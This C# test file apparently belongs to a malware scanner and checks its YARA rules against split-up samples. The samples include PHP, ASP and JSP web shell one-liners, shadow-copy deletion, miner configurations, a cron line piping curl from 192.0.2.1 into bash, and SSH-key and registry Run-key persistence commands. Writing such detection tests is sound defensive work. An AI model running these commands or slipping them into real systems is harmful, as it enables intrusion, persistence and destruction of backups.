using System.Text;
using Vmsweep.Signatures.Matching;
using Vmsweep.Signatures.Yara;

namespace Vmsweep.Signatures.Tests.Builtin;

public sealed class BuiltinRulesTests
{
    private static readonly Lazy<YaraRules> Rules = new(() =>
    {
        List<RuleFault> faults = [];
        YaraRules rules = YaraRules.Compile(RuleSources.Builtin(), new YaraOptions(), faults);
        Assert.Empty(faults);
        return rules;
    });

    /// <summary>Samples are kept in pieces (joined at the bars), so that this file is none.</summary>
    [Theory]
    [InlineData("EICAR_Test_File", "X5O!P%@AP[4|\\PZX54(P^)7CC)7}$EICAR|-STANDARD-ANTI|VIRUS-TEST-FILE!$H+H*")]
    [InlineData("Webshell_PHP_Request_To_Code", "<?php @ev|al($_PO|ST['x']); ?>")]
    [InlineData("Webshell_PHP_Request_To_Code", "<?= sys|tem ( base64_dec|ode($_COO|KIE[\"c\"])) ?>")]
    [InlineData("Webshell_PHP_Request_To_Code", "<?php ass|ert(file_get_con|tents('php://in|put'));")]
    [InlineData("Webshell_PHP_Packed_Code", "<?php ev|al(gzin|flate(base64_dec|ode('{A*240}')));")]
    [InlineData("Webshell_ASP_Request_To_Code", "<%ev|al req|uest(\"x\")%>")]
    [InlineData("Webshell_ASP_Request_To_Code", "<%@ Page Language=\"Jscript\"%><%ev|al(Req|uest.Item[\"z\"],\"unsafe\");%>")]
    [InlineData("Webshell_JSP_Request_To_Process", "<% Runtime.getRun|time().ex|ec(request.getPara|meter(\"c\")); %>")]
    [InlineData("Ransom_Note", "ATTENTION! Your files have been encry|pted. Send 1 bit|coin to get the decryption k|ey.")]
    [InlineData("Ransom_Shadow_Copies", "vss|admin delete sha|dows /all /quiet\r\nbcd|edit /set {default} recoveryena|bled no")]
    [InlineData("Miner_Configuration", "{ \"url\": \"strat|um+tcp://pool.example.net:3333\", \"donate-|level\": 1 }")]
    [InlineData("Miner_Program", "\u007FELF strat|um+tcp:// strat|um+ssl:// rand|omx donate-|level rig|-id nice|hash")]
    [InlineData("Persistence_Cron_Download", "# m h\n*/5 * * * * ro|ot cu|rl -fsSL http://192.0.2.1/a | ba|sh\n")]
    [InlineData("Persistence_Script_Downloads_And_Stays", "#!/bin/sh\nwg|et http://192.0.2.1/x -O /tmp/x\n(cron|tab -l; echo x) > /etc/cr|on.d/x\n")]
    [InlineData("Persistence_Authorized_Keys_Dropper", "echo ssh-r|sa AAAA{B*60} >> /root/.ss|h/authorized_keys; chat|tr +i /root/.ssh\n")]
    [InlineData("Persistence_Run_Key_Script", "re|g add HKCU\\Software\\Microsoft\\Windows\\Current|Version\\Run /v x /d \"powers|hell -w hid|den -c x\"")]
    public void A_sample_is_found(string rule, string sample)
    {
        string text = sample.Replace(" | ", "\u0001", StringComparison.Ordinal).Replace("|", "", StringComparison.Ordinal).Replace("\u0001", " | ", StringComparison.Ordinal);
        text = text.Replace("{A*240}", new string('A', 240), StringComparison.Ordinal).Replace("{B*60}", new string('B', 60), StringComparison.Ordinal);
        Assert.Contains(rule, Names(Encoding.Latin1.GetBytes(text), default));
    }

    [Theory]
    [InlineData("The EICAR test file has 68 bytes and begins with X5O!P%@AP.")]
    [InlineData("<?php echo htmlspecialchars($_POST['name']); system('ls'); eval($fixed); ?>")]
    [InlineData("<?php $x = base64_decode('aGVsbG8='); ?>")]
    [InlineData("<% Response.Write(Request(\"x\")) %>")]
    [InlineData("<% String s = request.getParameter(\"c\"); Runtime.getRuntime().gc(); %>")]
    [InlineData("Your files are backed up. Bitcoin is a currency. Keep your private key safe.")]
    [InlineData("vssadmin list shadows\r\nbcdedit /enum")]
    [InlineData("{ \"url\": \"stratum+tcp://pool.example.net:3333\" }")]
    [InlineData("*/5 * * * * root curl -fsSL http://192.0.2.1/a -o /var/lib/a\n")]
    [InlineData("#!/bin/sh\nwget http://192.0.2.1/x -O /tmp/x\ntar xf /tmp/x\n")]
    [InlineData("cat key.pub >> ~/.ssh/authorized_keys\n")]
    [InlineData("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d \"c:\\program files\\x.exe\"")]
    public void Its_harmless_neighbour_is_not(string text) => Assert.Empty(Names(Encoding.Latin1.GetBytes(text), default));

    [Theory]
    [InlineData("Packed_Program_In_Odd_Place", "Users/Public/x.exe", ".exe", true)]
    [InlineData("Packed_Program_In_Odd_Place", "C:\\Windows\\Temp\\x.exe", ".exe", true)]
    [InlineData("Packed_Program_In_Odd_Place", "Program Files/x.exe", ".exe", false)]
    [InlineData("Program_With_Picture_Or_Document_Name", "a/x.jpg", ".JPG", true)]
    [InlineData("Program_With_Picture_Or_Document_Name", "a/x.exe", ".exe", false)]
    public void A_name_decides(string rule, string path, string extension, bool found)
    {
        byte[] program = new byte[2048];
        "MZ"u8.CopyTo(program);
        program[0x3C] = 0x80;
        "PE\0\0"u8.CopyTo(program.AsSpan(0x80));
        "UPX0"u8.CopyTo(program.AsSpan(0x188));
        "UPX1"u8.CopyTo(program.AsSpan(0x1B0));
        "UPX!"u8.CopyTo(program.AsSpan(0x3E0));
        Assert.Equal(found, Names(program, new ContentFacts(Path.GetFileName(path), path, extension, null, null)).Contains(rule));
    }

    [Fact]
    public void Every_rule_says_how_bad_it_is_and_what_it_finds_and_names_no_author()
    {
        foreach (RuleFile file in RuleSources.Builtin())
        {
            string text = Encoding.UTF8.GetString(file.Text);
            int rules = text.Split("\nrule ").Length - (text.StartsWith("rule ", StringComparison.Ordinal) ? 0 : 1);
            Assert.Equal(rules, text.Split("severity = ").Length - 1);
            Assert.Equal(rules, text.Split("description = ").Length - 1);
            Assert.DoesNotContain("author =", text, StringComparison.Ordinal);
        }
    }

    private static string[] Names(byte[] content, ContentFacts facts)
    {
        using IMatcher matcher = Rules.Value.CreateMatcher();
        List<Detection> found = [];
        Assert.Null(matcher.Match(content, facts, found, CancellationToken.None));
        return [.. found.Select(d => d.Rule)];
    }
}
